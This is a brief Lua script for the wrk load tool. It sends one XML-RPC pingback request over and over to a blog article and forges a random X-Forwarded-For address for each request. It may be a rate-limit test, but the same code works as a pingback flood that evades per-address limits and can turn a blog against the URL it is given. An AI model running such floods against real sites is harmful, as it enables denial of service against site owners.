-- One pingback over and over, from senders at very many addresses, for wrk.
function init(args)
  body = '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>' .. args[1] ..
    '</string></value></param><param><value><string>https://blog.example/article</string></value></param></params></methodCall>'
end

function request()
  local from = math.random(16777216) - 1
  local address = "10." .. math.floor(from / 65536) .. "." .. math.floor(from / 256) % 256 .. "." .. from % 256
  return wrk.format("POST", nil, { ["Content-Type"] = "text/xml", ["X-Forwarded-For"] = address }, body)
end
